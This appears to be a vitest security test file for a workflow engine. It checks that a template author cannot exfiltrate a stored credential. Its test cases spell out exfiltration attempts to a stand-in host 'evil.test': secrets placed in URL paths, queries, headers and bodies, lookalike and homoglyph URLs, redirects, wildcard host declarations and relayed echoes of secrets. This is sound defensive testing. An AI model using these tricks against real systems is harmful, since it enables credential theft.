import { describe, expect, it } from 'vitest';
import {
  type Credential,
  type Definition,
  type Graph,
  type HttpRequestTemplate,
  type JsonValue,
  type OutgoingRequest,
  runGraph,
} from '#engine';
import { bearer, custom, shelf } from '../../support/credentials.js';
import {
  type Answer,
  createHost,
  failure,
  graph,
  type HostOptions,
  httpStep,
  json,
  textReply,
} from '../../support/engine.js';
import { encoders } from '../../support/secret-encoders.js';
import { findsSecret } from '../../support/secret-finder.js';

/** Stands for what an installer of a template has in the slot: whoever wrote the template must never get it. */
const CANARY = 'canary/7fW2+qZ"9é&k';
const BANK = 'https://bank.test';
const EVIL = 'https://evil.test';

const slot = { type: 'credential' as const, slot: 'main' };
const post = (url: string, value: JsonValue): Partial<HttpRequestTemplate> & { url: string } => ({
  method: 'POST',
  url,
  body: { type: 'json', value },
});
const step = (id: string, request: Partial<HttpRequestTemplate> & { url: string }) =>
  httpStep({ id, request: { method: 'GET', ...request } });

interface Attack {
  graph: Graph;
  /** What the bank answers; all others answer 200. */
  bank?: (request: OutgoingRequest) => Answer;
  others?: (request: OutgoingRequest) => Answer;
  credential?: Partial<Credential>;
  options?: HostOptions;
  hosts?: string[];
}

/** Runs it, and looks for the secret wherever its author could read: other hosts, events, results. */
async function attempt({ graph, bank, others, credential, options, hosts }: Attack) {
  const host = createHost({
    credentials: shelf({ main: { ...bearer(CANARY, ['bank.test']), ...credential } }),
    script: (request) => (isBank(request) ? bank : others)?.(request),
    ...options,
  });
  const permissions = hosts && { hosts };
  const result = await runGraph({ graph, ports: host.ports, permissions }).result;
  const strangers = host.sent.filter(({ request }) => !isBank(request));
  const readable = textsOf([host.journal, result, strangers.map((sent) => shown(sent.request))]).join(' | ');
  return { result, host, strangers, leaks: findsSecret(readable, CANARY) };
}

const isBank = ({ url }: OutgoingRequest) => new URL(url).origin === BANK;
/** All keys and texts, as they are. */
function textsOf(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return [String(value)];
  return Object.entries(value).flatMap(([key, member]) => [key, ...textsOf(member)]);
}

const shown = (request: OutgoingRequest) => ({
  ...request,
  body: Buffer.from(request.body ?? '').toString(),
});

async function expectRefused(attack: Attack, code: string | RegExp = /./) {
  const { result, leaks, strangers, host } = await attempt(attack);
  expect(result.status).toBe('failed');
  expect(result.error?.code).toMatch(code);
  expect(leaks).toBe(false);
  return { strangers, host, result };
}

describe('the search for the secret', () => {
  it('notices one that a stranger gets', async () => {
    const flow = graph('a', { a: step('a', { url: `${EVIL}/`, auth: slot }) });
    const { leaks } = await attempt({ graph: flow, credential: { hosts: ['evil.test'] } });
    expect(leaks).toBe(true);
  });

  it.each(encoders)('notices one in an event: $name', async ({ encode }) => {
    const echo = json({ you: encode(CANARY) });
    const { leaks } = await attempt({
      graph: graph('a', { a: step('a', { url: `${BANK}/` }) }),
      bank: () => echo,
    });
    expect(leaks).toBe(true);
  });
});

describe('whoever writes a template never gets a secret', () => {
  it.each<[string, Partial<HttpRequestTemplate> & { url: string }]>([
    ['the auth', { url: `${EVIL}/`, auth: slot }],
    ['an explicit auth', { url: `${EVIL}/`, auth: { type: 'bearer', token: '{{workspace.main}}' } }],
    ['the path', { url: `${EVIL}/{{workspace.main}}` }],
    ['a path value', { url: `${EVIL}/:id`, path: { id: '{{workspace.main}}' } }],
    ['the query', { url: `${EVIL}/?{{workspace.main}}` }],
    ['a parameter', { url: `${EVIL}/`, query: { q: ['{{workspace.main}}'] } }],
    ['a header', { url: `${EVIL}/`, headers: { 'X-A': '{{workspace.main}}' } }],
    ['a body', post(`${EVIL}/`, { a: ['x{{workspace.main}}'] })],
    ['a key', { ...post(`${EVIL}/`, {}), idempotency: { key: '{{workspace.main}}' } }],
    ['the fragment', { url: `${EVIL}/#{{workspace.main}}` }],
  ])('[S23] with the address of another host and a slot in %s', async (_name, request) => {
    const { strangers } = await expectRefused({ graph: graph('a', { a: step('a', request) }) }, 'credential');
    expect(strangers).toEqual([]);
  });

  it.each([
    'https://bank.test:8443/',
    'http://bank.test/',
    'http://bank.test:443/',
    'https://bank.test./',
    'https://x@bank.test/',
    'https://bank.test@evil.test/',
    'https://bank.test:x@evil.test/',
    'https://evil.test\\@bank.test/',
    'https://bank.test.evil.test/',
    'https://evil.test/https://bank.test/',
    'https://evil.test?bank.test',
    'https://evil.test#@bank.test/',
    'https://xn--bank.test/',
    'https://b\u0430nk.test/',
    'https://bank\u3002test/',
    'https://ba%6ek.test/',
    'HTTP://BANK.TEST/',
  ])('[S23] with an address that only looks like the right one: %s', async (url) => {
    const literal = graph('a', { a: step('a', { url, auth: slot }) });
    expect((await expectRefused({ graph: literal })).host.sent).toEqual([]);
    const computed = graph('a -> b', {
      a: step('a', { url: `${EVIL}/` }),
      b: step('b', { url: '{{a.url}}', auth: slot }),
    });
    const { host } = await expectRefused({ graph: computed, others: () => json({ url }) });
    expect(host.sent).toHaveLength(1);
  });

  it.each(['https://BANK.test/', 'HTTPS://bank.TEST:443/x'])(
    '[S23] while %s is the right one',
    async (url) => {
      const { result, leaks, host } = await attempt({
        graph: graph('a', { a: step('a', { url, auth: slot }) }),
      });
      expect([result.status, leaks, host.sent.length]).toEqual(['succeeded', false, 1]);
      expect(host.sent[0]?.request.headers.authorization).toContain(CANARY);
    },
  );

  it('[S23] by a host that a step’s output names', async () => {
    const flow = graph('a -> b', {
      a: step('a', { url: `${EVIL}/` }),
      b: step('b', { url: '{{a.url}}', auth: slot }),
    });
    await expectRefused({ graph: flow, others: () => json({ url: `${EVIL}/steal` }) }, 'credential');
  });

  it('[S23] by a redirect from the right host', async () => {
    const { host } = await attempt({
      graph: graph('a', { a: step('a', { url: `${BANK}/go?to=evil.test`, auth: slot }) }),
    });
    const { mayFollow } = host.sent[0]?.options ?? {};
    expect(mayFollow?.(`${BANK}/elsewhere`)).toBe(true);
    for (const url of [
      `${EVIL}/`,
      'http://bank.test/',
      'https://bank.test:8443/',
      'https://bank.test@evil.test/',
    ])
      expect(mayFollow?.(url)).toBe(false);
  });

  it.each(['*.com', '*.test', '*', '*.github.io', '*.co.uk', 'evil.test'])(
    '[S23] by declaring %s',
    async (declared) => {
      for (const host of ['evil.com', 'evil.test', 'evil.github.io', 'evil.co.uk']) {
        const flow = graph('a', { a: step('a', { url: `https://${host}/`, auth: slot }) });
        const { strangers } = await expectRefused(
          { graph: flow, hosts: [declared] },
          /credential|not_permitted/,
        );
        expect(strangers).toEqual([]);
      }
    },
  );

  it.each(['*', '*.test', '*.github.io', 'bank.test/', '', ' evil.test'])(
    '[S23] by a credential whose hosts are a pattern: %j',
    async (entry) => {
      for (const host of ['bank.test', 'evil.test', 'evil.github.io']) {
        const flow = graph('a', { a: step('a', { url: `https://${host}/`, auth: slot }) });
        await expectRefused({ graph: flow, credential: { hosts: [entry] } }, 'credential');
      }
    },
  );

  it('[S23] by a credential that names no hosts', async () => {
    const flow = graph('a', { a: step('a', { url: `${BANK}/`, auth: slot }) });
    const { result } = await expectRefused({ graph: flow, credential: { hosts: [] } }, 'credential');
    expect(result.error?.message).toContain('no hosts');
  });

  it('[S23] by a host that its credential is for, and the template doesn’t declare', async () => {
    const flow = graph('a', { a: step('a', { url: `${BANK}/`, auth: slot }) });
    await expectRefused({ graph: flow, hosts: ['other.test'] }, 'not_permitted');
  });

  it('[S23] by a second slot in a request that the first may make', async () => {
    const flow = graph('a', {
      a: step('a', {
        url: `${EVIL}/`,
        auth: { type: 'credential', slot: 'mine' },
        headers: { x: '{{workspace.main}}' },
      }),
    });
    const credentials = shelf({
      mine: bearer('the-authors-own', ['evil.test']),
      main: bearer(CANARY, ['bank.test']),
    });
    const { strangers } = await expectRefused({ graph: flow, options: { credentials } }, 'credential');
    expect(strangers).toEqual([]);
  });

  it('[S23] by a connector that is given another slot than it is made for', async () => {
    const connector: Definition = {
      graph: graph('s', {
        s: step('s', { url: `${EVIL}/`, auth: { type: 'credential', slot: 'harmless' } }),
      }),
      permissions: { hosts: ['evil.test'] },
    };
    const call = {
      id: 'a',
      type: 'connector' as const,
      connector: 'c',
      input: {},
      credentials: { harmless: 'main' },
    };
    const credentials = shelf({
      main: bearer(CANARY, ['bank.test']),
      'c/harmless': bearer('harmless-token', ['evil.test']),
    });
    const options = { credentials, connectors: { c: connector } };
    await expectRefused({ graph: { steps: [call] }, options }, 'credential');
    expect(credentials.asked).toEqual(['find main']);
  });

  it('[S23] by asking for a slot of the graph that calls it', async () => {
    const connector: Definition = { graph: graph('s', { s: step('s', { url: `${BANK}/`, auth: slot }) }) };
    const call = { id: 'a', type: 'connector' as const, connector: 'c', input: {} };
    const options = {
      connectors: { c: connector },
      credentials: shelf({ main: bearer(CANARY, ['bank.test']) }),
    };
    const { host } = await expectRefused({ graph: { steps: [call] }, options }, 'credential');
    expect(host.sent).toEqual([]);
  });
});

describe('an answer that repeats the secret', () => {
  /** Asks the bank with the secret, and posts what came of it to a stranger. */
  const relay = (taken: string, request: Partial<HttpRequestTemplate> = {}) => ({
    steps: [
      httpStep({
        id: 'a',
        request: { method: 'GET', url: `${BANK}/`, auth: slot, ...request },
        output: { all: '{{response}}' },
        retry: { attempts: 1 },
      }),
      step('b', post(`${EVIL}/`, taken)),
    ],
    edges: [
      { source: 'a', target: 'b' },
      { source: 'a', target: 'b', on: 'failure' },
    ],
  });

  async function expectHidden(attack: Attack) {
    const { leaks, strangers, result } = await attempt(attack);
    expect(result.status).toBe('succeeded');
    expect(strangers).toHaveLength(1);
    expect(leaks).toBe(false);
    expect(String(strangers[0]?.request.body)).toMatch(/••••|null/);
  }

  it.each(encoders)('[S24] is hidden before the next step reads it: $name', async ({ encode }) => {
    const written = encode(CANARY);
    for (const answer of [
      json({ you: written, list: [`x ${written} y`], [`key ${written}`]: 1 }),
      textReply(`you: ${written}`, 'text/plain'),
      textReply(`<p>${written}</p>`, 'text/html'),
      json('', 200, { 'x-echo': written.replace(/[^\u0020-\u007e]/g, encodeURIComponent) }),
    ])
      await expectHidden({ graph: relay('{{a}}'), bank: () => answer });
  });

  it.each(encoders)('[S24] is hidden in an error, and in what it says: $name', async ({ encode }) => {
    const written = encode(CANARY);
    for (const answer of [
      json({ message: `No access for ${written}.` }, 403),
      json({ error: { message: written } }, 400),
      textReply(written, 'application/json', 400),
      textReply(`{"broken": "${written}`, 'application/json'),
      textReply('', 'text/plain', 302, { location: `/x?${encodeURIComponent(written)}` }),
      { ...failure('connection_failed'), message: `Could not reach ${written}.` },
    ])
      await expectHidden({ graph: relay('{{error.message}} ••••'), bank: () => answer });
  });

  it('[S24] is hidden in an answer of bytes, wherever it begins in them', async () => {
    for (const before of ['', 'a', 'ab', 'abc']) {
      const answer = textReply(`${before}${CANARY}z`, 'application/octet-stream');
      await expectHidden({ graph: relay('{{a}}'), bank: () => answer });
    }
  });

  it('[S24] is hidden as the request has it in its URL, its form, its user and password', async () => {
    const echo = (request: OutgoingRequest) => json({ ...shown(request) });
    for (const request of [
      { url: `${BANK}/bot{{workspace.main}}/:id?q={{workspace.main}}`, path: { id: 'x{{workspace.main}}' } },
      {
        method: 'POST',
        body: { type: 'form', fields: { a: 'x {{workspace.main}} y', b: { c: '{{workspace.main}}' } } },
      },
      { method: 'POST', body: { type: 'multipart', fields: { a: '{{workspace.main}}' } } },
      { auth: { type: 'basic', username: '{{workspace.main}}', password: '' } },
      { auth: { type: 'basic', username: 'user', password: '{{workspace.main}}' } },
      { auth: { type: 'basic', username: '{{workspace.main}}', password: '{{workspace.main}}' } },
      { auth: { type: 'api_key', in: 'query', name: 'k', value: '{{workspace.main}}' } },
    ] satisfies Partial<HttpRequestTemplate>[])
      await expectHidden({ graph: relay('{{a}}', request), bank: echo });
  });

  it.each<[string, Partial<HttpRequestTemplate>, Partial<Credential>]>([
    ['as the credential says', {}, { use: { type: 'basic' }, fields: { username: 'user', password: 'abc' } }],
    [
      'as the request says',
      { auth: { type: 'basic', username: 'user', password: '{{workspace.main}}' } },
      { fields: { token: 'abc' } },
    ],
  ])(
    '[S24] is hidden beside its user, also where it is too short to be looked for: %s',
    async (_name, request, credential) => {
      const echo = (sent: OutgoingRequest) => json({ you: sent.headers.authorization ?? '' });
      const { host } = await attempt({ graph: relay('{{a}}', request), bank: echo, credential });
      expect(host.sent[0]?.request.headers.authorization).toBe(`Basic ${btoa('user:abc')}`);
      expect(JSON.parse(String(host.sent[1]?.request.body)).all.body).toEqual({
        you: expect.stringMatching(/^Basic ••••=?$/),
      });
    },
  );

  it('[S24] is hidden for all steps, also those that began before it was used', async () => {
    const flow: Graph = {
      steps: [
        step('plain', { url: `${BANK}/plain` }),
        step('secret', { url: `${BANK}/secret`, auth: slot }),
        step('b', post(`${EVIL}/`, '{{plain}}')),
      ],
      edges: [{ source: 'plain', target: 'b' }],
    };
    let release: (answer: Answer) => void = () => undefined;
    const late = new Promise<Answer>((resolve) => {
      release = resolve;
    });
    const options: HostOptions = {
      script(request) {
        if (request.url.endsWith('/plain')) return late;
        if (request.url.endsWith('/secret')) release(json({ you: CANARY }));
        return undefined;
      },
    };
    await expectHidden({ graph: flow, options });
  });

  it('[S24] is hidden field by field, but not the fields that are no secrets', async () => {
    const fields = { one: CANARY, two: 'another-secret', region: 'eu-west-1' };
    const credential = { ...custom(fields), plain: ['region'], hosts: ['bank.test'] };
    const { host } = await attempt({
      graph: relay('{{a}}', { auth: { type: 'bearer', token: '{{workspace.main.one}}' } }),
      credential,
      bank: () => json(fields),
    });
    expect(JSON.parse(String(host.sent[1]?.request.body)).all.body).toEqual({
      one: '••••',
      two: '••••',
      region: 'eu-west-1',
    });
  });

  it.each(['a b', '../../\\\\x', '//evil.test/{{response.body[0]}}', 'https://evil.test/x y', '?q=\u0001'])(
    '[S24] is hidden in what is said about a next page at %j',
    async (next) => {
      const url = `${BANK}/bot{{workspace.main}}/x`;
      const first = httpStep({
        id: 'a',
        request: { method: 'GET', url },
        pagination: { type: 'next_url', next, items: '{{response.body}}' },
      });
      const flow: Graph = {
        steps: [first, step('b', post(`${EVIL}/`, '{{error.message}}'))],
        edges: [{ source: 'a', target: 'b', on: 'failure' }],
      };
      const { leaks, strangers } = await attempt({ graph: flow, bank: () => json([1]) });
      expect([leaks, strangers.length]).toEqual([false, 1]);
    },
  );

  it('[S24] is hidden where an output puts it together from its halves, in a loop too', async () => {
    const halves = { left: CANARY.slice(0, 9), right: CANARY.slice(9) };
    const joined = { joined: '{{response.body.left}}{{response.body.right}}' };
    const bankStep = { ...step('a', { url: `${BANK}/`, auth: slot }), output: joined };
    const { leaks, strangers } = await attempt({
      graph: {
        steps: [
          bankStep,
          { ...bankStep, id: 'b', forEach: { items: [1] } },
          step('c', post(`${EVIL}/`, ['{{a.joined}}', '{{b[0].joined}}'])),
        ],
      },
      bank: () => json(halves),
    });
    expect(strangers.map(({ request }) => request.body)).toEqual(['["••••","••••"]']);
    expect(leaks).toBe(false);
  });

  it('[S24] leads to no other host where the next page is', async () => {
    let page = 0;
    const { strangers, leaks } = await attempt({
      graph: {
        steps: [
          httpStep({
            id: 'a',
            request: { method: 'GET', url: `${BANK}/`, auth: slot },
            pagination: { type: 'link_header', items: '{{response.body}}' },
          }),
        ],
      },
      bank: () => json([++page], 200, { link: `<${EVIL}/?k=${encodeURIComponent(CANARY)}>; rel="next"` }),
    });
    expect([strangers, leaks]).toEqual([[], false]);
  });
});
